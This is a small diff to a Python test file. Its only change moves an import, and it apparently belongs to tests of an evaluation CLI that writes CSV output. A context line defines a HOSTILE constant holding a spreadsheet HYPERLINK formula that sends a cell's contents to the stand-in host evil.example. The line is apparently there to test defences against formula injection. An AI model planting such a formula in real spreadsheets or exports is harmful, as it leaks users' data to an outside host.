@@ -7,10 +7,10 @@ from typing import Any
 
 import pandas as pd
 import pytest
-from tests.app.commands.test_evaluate import _concerns_csv
 
 import analysis.evaluation.accuracy as evaluation
 from app.cli import main
+from tests.app.commands.test_evaluate import _concerns_csv
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
